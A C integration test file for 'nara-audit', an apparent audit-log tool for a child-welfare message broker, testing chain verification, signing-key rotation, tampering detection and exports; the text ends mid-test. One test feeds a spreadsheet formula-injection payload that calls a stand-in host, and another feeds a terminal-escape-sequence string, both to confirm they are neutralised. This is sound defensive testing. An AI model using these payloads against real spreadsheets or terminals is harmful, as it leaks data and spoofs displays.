/*
 * itest_audit.c — nara-audit against stores written by a real narad that
 * signs its chain head: verify while narad runs and after, every --json
 * output parsed and its fields checked, the extract for one child, the
 * reproducible sample, review record while narad writes, export, prune,
 * tampering detected with the bad seq named, the signing key rotated
 * on SIGHUP with the whole log verifying against both public keys, and
 * a refused envelope's control characters and bytes that are not UTF-8
 * escaped in the table and kept in JSON; a missing head file is a
 * warning.
 */
#include <signal.h>
#include <stdarg.h>
#include <sys/stat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <criterion/criterion.h>
#include <jansson.h>

#include "harness.h"
#include "validate.h"

#define CHILD2 "191212121212"
static char child2[] = CHILD2;
#define OUT_MAX 262144

static struct harness h;
static struct fixture *fx;
static char tool[300], out[OUT_MAX];
static const char *const row_fields[] = { "seq", "time", "event", "node",
    "message_id", "type", "sender", "recipient", "author", "legal_basis",
    "payload_sha256", "payload_size", "subject", "code", "detail", "hash" };

/* Put signing_key and a 1 s checkpoint interval into the harness config. */
static void
config_signing(void)
{
	char *conf = NULL, *p, key[300];
	size_t len = 0;
	FILE *f = fopen(h.conf, "r");

	cr_assert_not_null(f);
	cr_assert_gt(getdelim(&conf, &len, '\0', f), 0);
	fclose(f);
	p = strstr(conf, "[broker]\n");
	cr_assert_not_null(p);
	f = fopen(h.conf, "w");
	fprintf(f, "[broker]\nsigning_key = %s/sign.pem\ncheckpoint_interval = 1\n"
	    "%s", h.dir, p + strlen("[broker]\n"));
	fclose(f);
	free(conf);
	snprintf(key, sizeof(key), "%s/sign.pem", h.dir);
	cr_assert_eq(harness_run(out, sizeof(out), "%s keygen %s", tool, key), 0,
	    "%s", out);
}

static void
setup(void)
{
	harness_bin("nara-audit", tool, sizeof(tool));
	harness_init(&h, NULL);
	config_signing();
	harness_start(&h);
	fx = fixture_new();
}

static void
teardown(void)
{
	fixture_free(&fx);
	harness_cleanup(&h);
}

TestSuite(audit, .init = setup, .fini = teardown, .timeout = 120);

/* Run nara-audit with the formatted args (stdout only); its exit code. */
static int audit(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int
audit(const char *fmt, ...)
{
	char args[1200];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(args, sizeof(args), fmt, ap);
	va_end(ap);
	return harness_run(out, sizeof(out), "{ %s %s 2>/dev/null; }", tool, args);
}

static json_t *
parse(void)
{
	json_error_t jerr;
	json_t *j = json_loads(out, 0, &jerr);

	cr_assert_not_null(j, "not JSON (%s): %.300s", jerr.text, out);
	return j;
}

/* Every documented row field is there, with the right JSON type. */
static void
check_row(json_t *row)
{
	cr_assert(json_is_object(row));
	for (size_t i = 0; i < sizeof(row_fields) / sizeof(row_fields[0]); i++)
		cr_assert(json_object_get(row, row_fields[i]) != NULL,
		    "field %s missing", row_fields[i]);
	cr_expect(json_is_integer(json_object_get(row, "seq")));
	cr_expect(json_is_string(json_object_get(row, "time")));
	cr_expect(json_is_string(json_object_get(row, "event")));
	cr_expect_eq(strlen(json_string_value(json_object_get(row, "hash"))), 64);
}

static const char *
str(json_t *row, const char *k)
{
	const char *s = json_string_value(json_object_get(row, k));

	return s ? s : "";
}

/* Submit one report of concern about pn (NULL: the fixture's child). */
static void
submit(struct tclient *c, const char *pn, char id[37])
{
	Nara__Envelope *e = fixture_envelope(fx,
	    NARA__MESSAGE_TYPE__REPORT_OF_CONCERN, T_BUP, T_GBG_SOC);
	Nara__Frame *r;

	if (pn != NULL)
		e->subject->personal_number = child2;
	strcpy(id, e->message_id);
	r = tclient_submit(c, e);
	cr_assert_eq(r->kind_case, NARA__FRAME__KIND_ACCEPTED);
	frame_free(&r);
}

static void
deliver_ack(struct tclient *soc, const char *id)
{
	Nara__Frame *d = tclient_expect(soc, NARA__FRAME__KIND_DELIVER, 5000);

	cr_assert_not_null(d);
	cr_assert_str_eq(d->deliver->envelope->message_id, id);
	frame_free(&d);
	tclient_ack(soc, id, false);
}

/* Two messages about two children, the first delivered and acked; then
 * wait for narad to sign the head. */
/* narad has signed a checkpoint that covers every audit row so far. */
static void
wait_signed_head(void)
{
	cr_assert(harness_wait_sql(&h, "select count(*) from checkpoints "
	    "where seq >= (select max(seq) from audit)", 1, 20000),
	    "no signed checkpoint covers the newest row; see %s", h.log);
}

static void
traffic(char a[37], char b[37])
{
	struct tclient bup, soc;

	tclient_open(&bup, &h, T_BUP, 16);
	tclient_open(&soc, &h, T_GBG, 1);
	submit(&bup, NULL, a);
	deliver_ack(&soc, a);
	submit(&bup, child2, b);
	wait_signed_head();
	tclient_close(&bup);
	tclient_close(&soc);
}

/* verify --json: exit code and the documented fields. */
static json_t *
verify_json(int expect_rc)
{
	json_t *j;
	const char *keys[] = { "ok", "rows", "first_seq", "last_seq", "cut_seq",
	    "checkpoints", "signed_seq", "signed_time", "signatures_checked",
	    "keys", "signers", "other_signed", "bad_seq", "error", "head_file",
	    "warnings" };

	cr_assert_eq(audit("verify -c %s --json", h.conf), expect_rc, "%s", out);
	j = parse();
	for (size_t i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
		cr_assert(json_object_get(j, keys[i]) != NULL, "no %s", keys[i]);
	cr_expect_eq(json_is_true(json_object_get(j, "ok")), expect_rc == 0);
	cr_expect(json_is_true(json_object_get(j, "signatures_checked")));
	return j;
}

static json_int_t
jint(json_t *j, const char *k)
{
	return json_integer_value(json_object_get(j, k));
}

Test(audit, verify_while_running_and_after_stop)
{
	char a[37], b[37];
	json_t *j;

	traffic(a, b);
	cr_expect_eq(audit("verify -c %s", h.conf), 0, "%s", out);
	cr_expect(strstr(out, "intact") != NULL, "%s", out);
	j = verify_json(0);
	cr_expect_gt(jint(j, "signed_seq"), 0);
	cr_expect_eq(jint(j, "first_seq"), 1);
	json_decref(j);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	j = verify_json(0);
	/* the clean shutdown signed the very last row */
	cr_expect_eq(jint(j, "signed_seq"), jint(j, "last_seq"));
	json_decref(j);
}

Test(audit, trace_query_export_outputs_parse)
{
	char a[37], b[37], *line;
	json_t *j, *row;
	size_t i;
	int lines = 0;

	traffic(a, b);
	cr_assert_eq(audit("trace %s -c %s --json", a, h.conf), 0, "%s", out);
	j = parse();
	cr_assert_geq(json_array_size(j), 3);
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_eq(str(row, "message_id"), a);
	}
	cr_expect_str_eq(str(json_array_get(j, 0), "event"), "received");
	/* the acked row shows as its three facts, at the row's seq and time,
	 * the receipt queued for the node that sent the message */
	for (i = 0; i + 2 < json_array_size(j); i++) {
		json_t *ack = json_array_get(j, i),
		    *purge = json_array_get(j, i + 1),
		    *rcpt = json_array_get(j, i + 2);

		if (strcmp(str(ack, "event"), "acked") != 0)
			continue;
		lines++;
		cr_expect_str_eq(str(purge, "event"), "payload_purged");
		cr_expect_str_eq(str(rcpt, "event"), "receipt_queued");
		cr_expect_eq(jint(purge, "seq"), jint(ack, "seq"));
		cr_expect_eq(jint(rcpt, "seq"), jint(ack, "seq"));
		cr_expect_str_eq(str(rcpt, "time"), str(ack, "time"));
		cr_expect_str_eq(str(rcpt, "node"),
		    str(json_array_get(j, 0), "node"));
		cr_expect_str_eq(str(rcpt, "detail"), "delivered");
		cr_expect(json_is_null(json_object_get(ack, "detail")));
	}
	cr_expect_eq(lines, 1, "one ack of message %s", a);
	lines = 0;
	json_decref(j);
	cr_expect_eq(audit("trace 00000000-0000-4000-8000-000000000000 -c %s",
	    h.conf), 1);

	cr_assert_eq(audit("query -c %s --party %s --event received --json",
	    h.conf, T_GBG_SOC), 0, "%s", out);
	j = parse();
	cr_expect_eq(json_array_size(j), 2);
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_eq(str(row, "recipient"), T_GBG_SOC);
	}
	json_decref(j);
	cr_assert_eq(audit("query -c %s --from 2000-01-01 --to 2000-12-31 --json",
	    h.conf), 0);
	j = parse();
	cr_expect_eq(json_array_size(j), 0);
	json_decref(j);
	cr_assert_eq(audit("query -c %s --csv --event acked", h.conf), 0);
	cr_expect(strncmp(out, "seq,time,event,node,message_id,", 31) == 0,
	    "%s", out);
	cr_expect(strstr(out, a) != NULL);
	cr_expect_eq(audit("query -c %s --from yesterday", h.conf), 2);

	cr_assert_eq(audit("export -c %s --format jsonl", h.conf), 0);
	for (line = strtok(out, "\n"); line != NULL; line = strtok(NULL, "\n")) {
		json_error_t jerr;
		json_t *o = json_loads(line, 0, &jerr);
		cr_assert_not_null(o, "line %d: %s", lines, jerr.text);
		check_row(o);
		json_decref(o);
		lines++;
	}
	/* one line per fact: an acked row records three (AUDIT.md) */
	cr_expect_eq(lines, harness_sql_long(&h, "select count(*) from audit") +
	    2 * harness_sql_long(&h, "select count(*) from audit where event = "
	    "'acked' and detail like 'payload purged; receipt queued for %'"));
	cr_expect_gt(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'acked'"), 0);
}

/* Rows of subject PN: every one about message want, none about other. */
static void
subject_is(const char *pn, const char *want, const char *other)
{
	json_t *j, *row;
	size_t i;
	bool seen = false;

	cr_assert_eq(audit("subject %s -c %s --json", pn, h.conf), 0, "%s", out);
	j = parse();
	json_array_foreach(j, i, row) {
		check_row(row);
		cr_expect_str_neq(str(row, "message_id"), other);
		seen |= strcmp(str(row, "message_id"), want) == 0;
		cr_expect_str_eq(str(row, "message_id"), want);
	}
	cr_expect(seen, "no rows about %s", want);
	json_decref(j);
}

Test(audit, subject_extract_finds_exactly_that_child)
{
	char a[37], b[37], pn[13] = "", sql[200];

	traffic(a, b);
	snprintf(sql, sizeof(sql), "select count(*) from audit where "
	    "message_id = '%s'", a);
	/* the fixture's child: born 2014-03-12, its number from the log of A
	 * is not available (only the pseudonym), so rebuild it the same way */
	{
		const char *body = "140312238";
		int sum = 0;
		for (int k = 0; k < 9; k++) {
			int d = (body[k] - '0') * (k % 2 == 0 ? 2 : 1);
			sum += d > 9 ? d - 9 : d;
		}
		snprintf(pn, sizeof(pn), "20%s%d", body, (10 - sum % 10) % 10);
	}
	subject_is(pn, a, b);
	subject_is(CHILD2, b, a);
	/* by standard input too */
	cr_assert_eq(harness_run(out, sizeof(out), "{ echo %s | %s subject - -c "
	    "%s --csv 2>/dev/null; }", CHILD2, tool, h.conf), 0);
	cr_expect(strstr(out, b) != NULL && strstr(out, a) == NULL);
	/* a bad number: coded error, and the number is not echoed */
	cr_expect_eq(harness_run(out, sizeof(out), "%s subject 201403122381 -c %s",
	    tool, h.conf), 2);
	cr_expect(strstr(out, "NR013") != NULL, "%s", out);
	cr_expect(strstr(out, "201403122381") == NULL, "%s", out);
	cr_expect_gt(harness_sql_long(&h, sql), 0);
	/* the clear number is nowhere in the store */
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "coalesce(detail, '') || coalesce(subject, '') like '%191212121212%'"),
	    0);
}

Test(audit, sample_is_reproducible)
{
	char a[37], b[37], first[OUT_MAX];
	json_t *j, *rows;

	traffic(a, b);
	cr_assert_eq(audit("sample -c %s --n 1 --from 2000-01-01 --to 2100-01-01 "
	    "--seed 7 --json", h.conf), 0, "%s", out);
	strcpy(first, out);
	j = parse();
	cr_expect_eq(jint(j, "seed"), 7);
	cr_expect_eq(jint(j, "population"), 2);
	cr_expect_eq(jint(j, "n"), 1);
	rows = json_object_get(j, "rows");
	cr_assert_eq(json_array_size(rows), 1);
	check_row(json_array_get(rows, 0));
	cr_expect_str_eq(str(json_array_get(rows, 0), "event"), "received");
	json_decref(j);
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(audit("sample -c %s --n 1 --from 2000-01-01 --to "
		    "2100-01-01 --seed 7 --json", h.conf), 0);
		cr_expect_str_eq(out, first);
	}
	/* a sample as large as the population is all of it */
	cr_assert_eq(audit("sample -c %s --n 5 --from 2000-01-01 --to 2100-01-01 "
	    "--seed 99", h.conf), 0);
	cr_expect(strstr(out, "seed 99: 2 of 2") != NULL, "%s", out);
	cr_expect_eq(audit("sample -c %s --n 5", h.conf), 2);
}

Test(audit, review_record_while_narad_writes)
{
	char a[37], b[37], c[37];
	struct tclient bup;
	json_t *j;

	traffic(a, b);
	cr_assert_eq(audit("review record %s -c %s --reviewer granskare-1 "
	    "--conclusion 'access justified'", a, h.conf), 0, "%s", out);
	/* narad appends after the review row, on the same chain */
	tclient_open(&bup, &h, T_BUP, 16);
	submit(&bup, NULL, c);
	tclient_close(&bup);
	wait_signed_head();
	j = verify_json(0);
	json_decref(j);
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'log_reviewed' and author = 'granskare-1'"), 1);
	cr_expect_eq(audit("review record 00000000-0000-4000-8000-000000000000 "
	    "-c %s --reviewer x --conclusion y", h.conf), 1);
	cr_expect_eq(audit("review record not-a-uuid -c %s --reviewer x "
	    "--conclusion y", h.conf), 2);
	cr_expect_eq(audit("review record %s -c %s --conclusion y", a, h.conf), 2);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	j = verify_json(0);
	json_decref(j);
}

Test(audit, tampering_is_named)
{
	char a[37], b[37], cmd[600];
	json_t *j;

	traffic(a, b);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	snprintf(cmd, sizeof(cmd), "sqlite3 %s \"update audit set recipient = "
	    "'kommun:1490:socialtjanst' where seq = 3\"", h.store);
	cr_assert_eq(harness_run(out, sizeof(out), "%s", cmd), 0, "%s", out);
	j = verify_json(1);
	cr_expect_eq(jint(j, "bad_seq"), 3);
	json_decref(j);
	cr_expect_eq(audit("verify -c %s", h.conf), 1);
	cr_expect(strstr(out, "seq 3") != NULL, "%s", out);
}

Test(audit, newest_rows_deleted_after_signed_checkpoint)
{
	char a[37], b[37], cmd[800];
	long last;
	json_t *j;

	traffic(a, b);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	last = harness_sql_long(&h, "select max(seq) from audit");
	snprintf(cmd, sizeof(cmd), "sqlite3 %s \"delete from audit where seq >= "
	    "%ld; update meta set value = %ld where key = 'audit_head_seq'; "
	    "update meta set value = (select hash from audit where seq = %ld) "
	    "where key = 'audit_head_hash'\"", h.store, last - 1, last - 2,
	    last - 2);
	cr_assert_eq(harness_run(out, sizeof(out), "%s", cmd), 0, "%s", out);
	j = verify_json(1);
	cr_expect_eq(jint(j, "bad_seq"), last - 1);
	json_decref(j);
}

/* The clock has passed the second of the newest audit row, so a cut at
 * "now" lies after every row (rows are recorded in whole seconds). */
static bool
clock_past_newest_row(void *arg)
{
	return (long)time(NULL) * 1000 > harness_sql_long(&h, "select "
	    "max(time) from audit");
}

Test(audit, prune_then_verify_then_tamper)
{
	char a[37], b[37], when[32], cmd[600];
	json_t *j;

	traffic(a, b);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	cr_assert(harness_wait(clock_past_newest_row, NULL, 5000));
	time_format((int64_t)time(NULL), when, sizeof(when));
	cr_assert_eq(audit("prune -c %s --before %s", h.conf, when), 0, "%s", out);
	cr_expect(strstr(out, "pruned") != NULL, "%s", out);
	/* a is delivered, its received row gone (its ack may come after b's
	 * first row); b still waits for its ack, so the cut stops before
	 * its first row, however late the date */
	snprintf(cmd, sizeof(cmd), "select count(*) from audit where "
	    "message_id = '%s' and event = 'received'", a);
	cr_expect_eq(harness_sql_long(&h, cmd), 0);
	snprintf(cmd, sizeof(cmd), "select min(seq) = (select min(seq) from "
	    "audit where message_id = '%s' and event = 'received') from audit",
	    b);
	cr_expect_eq(harness_sql_long(&h, cmd), 1, "the cut passed the first "
	    "row of a queued message");
	j = verify_json(0);
	cr_expect_gt(jint(j, "cut_seq"), 0);
	json_decref(j);
	cr_expect_eq(audit("prune -c %s --before 2999-01-01", h.conf), 2);
	snprintf(cmd, sizeof(cmd), "sqlite3 %s \"update audit set detail = 'x'\"",
	    h.store);
	cr_assert_eq(harness_run(out, sizeof(out), "%s", cmd), 0, "%s", out);
	j = verify_json(1);
	json_decref(j);
}

/* ---------------------------------------------------------------- rotation */

/* Point [broker] signing_key of the running config at dir/name. */
static void
config_set_signing_key(const char *name)
{
	char *conf = NULL, *p, *eol;
	size_t len = 0;
	FILE *f = fopen(h.conf, "r");

	cr_assert_not_null(f);
	cr_assert_gt(getdelim(&conf, &len, '\0', f), 0);
	fclose(f);
	cr_assert_not_null(p = strstr(conf, "signing_key = "));
	cr_assert_not_null(eol = strchr(p, '\n'));
	*p = '\0';
	f = fopen(h.conf, "w");
	fprintf(f, "%ssigning_key = %s/%s%s", conf, h.dir, name, eol);
	fclose(f);
	free(conf);
}

/* Wait up to 5 s for needle in the narad log. */
static bool
log_wait(const char *needle)
{
	for (int i = 0; i < 100; i++) {
		if (harness_log_count(&h, needle) > 0)
			return true;
		usleep(50000);
	}
	return false;
}

/* The fingerprint of the one key that signed every checkpoint so far. */
static void
only_signer(const char *pub, char fpr[65])
{
	json_t *j, *signers;

	cr_assert_eq(audit("verify --store %s --pubkey %s/%s --json", h.store,
	    h.dir, pub), 0, "%s", out);
	j = parse();
	signers = json_object_get(j, "signers");
	cr_assert_eq(json_array_size(signers), 1, "%s", out);
	snprintf(fpr, 65, "%s", str(json_array_get(signers, 0), "fingerprint"));
	cr_expect_eq(strlen(fpr), 64);
	json_decref(j);
}

/* One more message from BUP, then time for a checkpoint. */
static void
more_traffic(void)
{
	struct tclient bup;
	char id[37];

	tclient_open(&bup, &h, T_BUP, 16);
	submit(&bup, NULL, id);
	tclient_close(&bup);
	wait_signed_head();
}

/* Rotate to sign2.pem on SIGHUP; returns the old and new fingerprints. */
static void
rotate(char old_fpr[65], char new_fpr[65])
{
	char key[300];

	only_signer("sign.pem.pub", old_fpr);
	snprintf(key, sizeof(key), "%s/sign2.pem", h.dir);
	cr_assert_eq(harness_run(out, sizeof(out), "%s keygen %s", tool, key), 0,
	    "%s", out);
	config_set_signing_key("sign2.pem");
	kill(h.pid, SIGHUP);
	cr_assert(log_wait("audit signing key changed"), "no key change logged");
	more_traffic();
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	/* the old key alone fails at the first checkpoint of the new one */
	cr_assert_eq(audit("verify --store %s --pubkey %s/sign.pem.pub --json",
	    h.store, h.dir), 1, "%s", out);
	snprintf(new_fpr, 65, "%.64s", strstr(out, "signed by key ") ?
	    strstr(out, "signed by key ") + 14 : "");
	cr_expect_str_neq(old_fpr, new_fpr);
}

Test(audit, signing_key_rotated_on_sighup_verifies_with_both_keys)
{
	char a[37], b[37], old_fpr[65], new_fpr[65], sql[400], want[200];
	json_t *j, *signers;
	size_t i;
	json_t *s;

	traffic(a, b);
	rotate(old_fpr, new_fpr);
	/* the change is on the chain, naming both keys */
	snprintf(sql, sizeof(sql), "select count(*) from audit where event = "
	    "'signing_key_changed' and detail like '%s -> %s%%'", old_fpr,
	    new_fpr);
	cr_expect_eq(harness_sql_long(&h, sql), 1);
	/* the old key signed the head just before the switch, that row too */
	snprintf(sql, sizeof(sql), "select count(*) from checkpoints where "
	    "key_fingerprint = '%s' and seq >= (select seq from audit where "
	    "event = 'signing_key_changed')", old_fpr);
	cr_expect_eq(harness_sql_long(&h, sql), 1);

	/* both public keys: intact, each key's checkpoints counted */
	cr_assert_eq(audit("verify --store %s --pubkey %s/sign.pem.pub --pubkey "
	    "%s/sign2.pem.pub --json", h.store, h.dir, h.dir), 0, "%s", out);
	j = parse();
	cr_expect(json_is_true(json_object_get(j, "ok")));
	cr_expect_eq(jint(j, "keys"), 2);
	cr_expect_eq(jint(j, "signed_seq"), jint(j, "last_seq"));
	signers = json_object_get(j, "signers");
	cr_assert_eq(json_array_size(signers), 2, "%s", out);
	json_array_foreach(signers, i, s)
		cr_expect_gt(jint(s, "checkpoints"), 0);
	cr_expect_str_eq(str(json_array_get(signers, 0), "fingerprint"),
	    old_fpr);
	cr_expect_str_eq(str(json_array_get(signers, 1), "fingerprint"),
	    new_fpr);
	json_decref(j);
	cr_assert_eq(audit("verify --store %s --pubkey %s/sign.pem.pub --pubkey "
	    "%s/sign2.pem.pub", h.store, h.dir, h.dir), 0, "%s", out);
	snprintf(want, sizeof(want), "signed by key %s: ", old_fpr);
	cr_expect(strstr(out, want) != NULL, "%s", out);

	/* one key only: exit 1 naming the other key */
	cr_expect_eq(audit("verify --store %s --pubkey %s/sign2.pem.pub",
	    h.store, h.dir), 1);
	snprintf(want, sizeof(want), "signed by key %s, not among the --pubkey "
	    "keys", old_fpr);
	cr_expect(strstr(out, want) != NULL, "%s", out);
	cr_expect(strstr(out, "FAILED") != NULL, "%s", out);
	cr_expect_eq(audit("verify --store %s --pubkey %s/sign.pem.pub",
	    h.store, h.dir), 1);
	snprintf(want, sizeof(want), "signed by key %s, not among the --pubkey "
	    "keys", new_fpr);
	cr_expect(strstr(out, want) != NULL, "%s", out);

	/* -c: signing_key.pub plus the retired keys kept as .pub.* */
	cr_expect_eq(audit("verify -c %s", h.conf), 1, "%s", out);
	cr_assert_eq(harness_run(out, sizeof(out), "cp %s/sign.pem.pub "
	    "%s/sign2.pem.pub.1", h.dir, h.dir), 0, "%s", out);
	j = verify_json(0);
	cr_expect_eq(jint(j, "keys"), 2);
	json_decref(j);
}

Test(audit, signing_key_that_fails_to_load_keeps_the_running_one)
{
	char a[37], b[37], fpr[65], path[400];
	json_t *j, *signers;
	FILE *f;

	traffic(a, b);
	only_signer("sign.pem.pub", fpr);
	snprintf(path, sizeof(path), "%s/junk.pem", h.dir);
	cr_assert_not_null(f = fopen(path, "w"));
	fputs("not a key\n", f);
	fclose(f);
	chmod(path, 0600);
	config_set_signing_key("junk.pem");
	kill(h.pid, SIGHUP);
	cr_assert(log_wait("keeping the running signing key"), "no refusal");
	cr_expect_eq(harness_log_count(&h, "NR070"), 1);
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'signing_key_refused'"), 1);
	/* the config itself was reloaded; the old key still signs */
	cr_expect_eq(harness_sql_long(&h, "select count(*) from audit where "
	    "event = 'config_reloaded'"), 1);
	more_traffic();
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	cr_assert_eq(audit("verify --store %s --pubkey %s/sign.pem.pub --json",
	    h.store, h.dir), 0, "%s", out);
	j = parse();
	cr_expect_eq(jint(j, "signed_seq"), jint(j, "last_seq"));
	signers = json_object_get(j, "signers");
	cr_assert_eq(json_array_size(signers), 1, "%s", out);
	cr_expect_str_eq(str(json_array_get(signers, 0), "fingerprint"), fpr);
	json_decref(j);
}

Test(audit, pubkey_errors)
{
	char args[2000];
	size_t o = 0;

	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
	/* a ring of 17 keys is refused before anything is read */
	for (int i = 0; i < 17; i++)
		o += (size_t)snprintf(args + o, sizeof(args) - o, " --pubkey "
		    "%s/sign.pem.pub", h.dir);
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --store %s%s",
	    tool, h.store, args), 2);
	cr_expect(strstr(out, "NR072") != NULL && strstr(out, "at most 16")
	    != NULL, "%s", out);
	/* one unreadable key of two: exit 2 naming it */
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --store %s "
	    "--pubkey %s/sign.pem.pub --pubkey %s/none.pub", tool, h.store,
	    h.dir, h.dir), 2);
	cr_expect(strstr(out, "NR070") != NULL && strstr(out, "none.pub")
	    != NULL, "%s", out);
}

Test(audit, usage_errors_and_help)
{
	cr_expect_eq(harness_run(out, sizeof(out), "%s", tool), 2);
	cr_expect_eq(harness_run(out, sizeof(out), "%s frobnicate", tool), 2);
	cr_expect(strstr(out, "NR072") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --help", tool), 0);
	cr_expect(strstr(out, "usage: nara-audit verify") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s trace --seed 3 x --store "
	    "%s", tool, h.store), 2);
	cr_expect(strstr(out, "not used by trace") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s verify --store %s/nope.db",
	    tool, h.dir), 2);
	cr_expect(strstr(out, "NR071") != NULL, "%s", out);
}

/* Unknown names and impossible dates are errors (exit 2 with the reason),
 * never an empty answer or another day. */
Test(audit, unknown_filters_and_impossible_dates)
{
	char a[37], b[37];

	traffic(a, b);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --event "
	    "nosuch", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "unknown event \"nosuch\"") != NULL, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --type "
	    "letter", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "unknown message type \"letter\"") != NULL, "%s",
	    out);
	cr_expect_eq(audit("query -c %s --event acked --type referral", h.conf),
	    0, "%s", out);
	/* an event no row holds yet, but nara writes, is a fine filter */
	cr_expect_eq(audit("query -c %s --event retried", h.conf), 0, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --from "
	    "2026-11-31", tool, h.conf), 2, "%s", out);
	cr_expect(strstr(out, "NR015") && strstr(out, "\"2026-11-31\""), "%s",
	    out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s query -c %s --to "
	    "2026-02-29T10:00:00Z", tool, h.conf), 2, "%s", out);
	cr_expect_eq(harness_run(out, sizeof(out), "%s prune -c %s --before "
	    "2025-13-01", tool, h.conf), 2, "%s", out);
	cr_expect_eq(audit("query -c %s --from 2024-02-29 --to "
	    "2099-12-31T23:59:59+01:00", h.conf), 0, "%s", out);
}

/* A reviewer's conclusion that a spreadsheet would run as a formula. */
Test(audit, csv_cells_never_start_a_formula)
{
	char a[37], b[37];

	traffic(a, b);
	cr_assert_eq(audit("review record %s -c %s --reviewer '@evil' "
	    "--conclusion '=HYPERLINK(\"http://x.example/\"&A1,\"ok\")'", a,
	    h.conf), 0, "%s", out);
	cr_assert_eq(audit("query -c %s --csv --event log_reviewed", h.conf), 0);
	cr_expect(strstr(out, ",\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,"
	    "\"\"ok\"\")\"") != NULL, "%s", out);
	cr_expect(strstr(out, ",\"'@evil\",") != NULL, "%s", out);
	cr_expect(strstr(out, ",=") == NULL && strstr(out, ",@") == NULL &&
	    strstr(out, ",\"=") == NULL, "%s", out);
}

/* ---------------------------------------------------------------- hostile text */

/* What a refused envelope put in its row, as narad logged it: control
 * characters (a terminal's clear screen and window title, CR, DEL, the
 * C1 CSI), a right-to-left override, a backslash, an å and two bytes
 * that are not UTF-8. */
#define HOSTILE "kommun:1480:\x1b]0;ok\x07\x1b[2J\r\x7f\xc2\x9b\xe2\x80\xae" \
    "\\\xc3\xa5\xff\xfe"

/* narad has logged the refusal of the envelope id. */
static void
wait_rejected(const char *id)
{
	char sql[200];

	snprintf(sql, sizeof(sql), "select count(*) from audit where event = "
	    "'rejected' and message_id = '%s'", id);
	cr_assert(harness_wait_sql(&h, sql, 1, 10000), "no rejected row; see %s",
	    h.log);
}

/* The first byte of s a terminal would act on (a control character but
 * the table's line feeds) or that is never UTF-8 (F8..FF), or -1. */
static int
terminal_byte(const char *s)
{
	for (const unsigned char *p = (const unsigned char *)s; *p != '\0'; p++)
		if ((*p < 0x20 && *p != '\n') || *p == 0x7f || *p >= 0xf8)
			return *p;
	return -1;
}

/* A refused envelope's recipient reaches the table escaped (\xNN, so a
 * terminal shows what the row holds instead of obeying it) and the JSON
 * with every field, the bytes that are not UTF-8 as U+FFFD. */
Test(audit, refused_envelope_text_is_escaped_in_table_and_kept_in_json)
{
	struct tclient bup;
	Nara__Envelope *e = fixture_envelope(fx,
	    NARA__MESSAGE_TYPE__REPORT_OF_CONCERN, T_BUP, T_GBG_SOC);
	Nara__Frame *r;
	char id[37], recipient[] = HOSTILE;
	json_t *j, *row;

	strcpy(id, e->message_id);
	e->recipient = recipient;
	tclient_open(&bup, &h, T_BUP, 16);
	r = tclient_submit(&bup, e);
	cr_assert_eq(r->kind_case, NARA__FRAME__KIND_REJECTED);
	frame_free(&r);
	tclient_close(&bup);
	wait_rejected(id);

	cr_assert_eq(audit("trace %s -c %s", id, h.conf), 0);
	cr_expect_eq(terminal_byte(out), -1, "byte 0x%02x reached the table",
	    terminal_byte(out));
	cr_expect(strstr(out, "kommun:1480:\\x1b]0;ok\\x07\\x1b[2J\\x0d\\x7f"
	    "\\xc2\\x9b\\xe2\\x80\\xae\\\\\xc3\xa5\\xff\\xfe ") != NULL,
	    "the recipient is not shown escaped");
	cr_expect(strstr(out, id) != NULL, "%s", out);

	cr_assert_eq(audit("trace %s -c %s --json", id, h.conf), 0);
	j = parse();
	cr_assert_eq(json_array_size(j), 1);
	row = json_array_get(j, 0);
	check_row(row);
	cr_expect(json_is_string(json_object_get(row, "recipient")),
	    "the recipient field was dropped");
	cr_expect_str_eq(str(row, "recipient"), "kommun:1480:\x1b]0;ok\x07"
	    "\x1b[2J\r\x7f\xc2\x9b\xe2\x80\xae\\\xc3\xa5\xef\xbf\xbd"
	    "\xef\xbf\xbd");
	cr_expect_str_eq(str(row, "event"), "rejected");
	json_decref(j);
}

/* ---------------------------------------------------------------- head file */

/* verify --json's head_file and its warnings, joined. */
static const char *
head_file_state(char *warnings, size_t len)
{
	json_t *j = verify_json(0), *w;
	static char state[32];
	size_t i, o = 0;

	snprintf(state, sizeof(state), "%s", str(j, "head_file"));
	warnings[0] = '\0';
	json_array_foreach(json_object_get(j, "warnings"), i, w)
		o += (size_t)snprintf(warnings + o, len - o, "%s\n",
		    json_string_value(w));
	json_decref(j);
	return state;
}

/* A store without the head file narad keeps beside it cannot be compared
 * with it (a rollback would not show): verify says so in a warning line
 * with NR041, and in JSON; the chain itself is intact, so exit 0. */
Test(audit, missing_head_file_is_reported)
{
	char a[37], b[37], head[400], warnings[1000];
	struct stat sb;

	traffic(a, b);
	cr_assert_eq(harness_stop(&h, SIGTERM), 0);
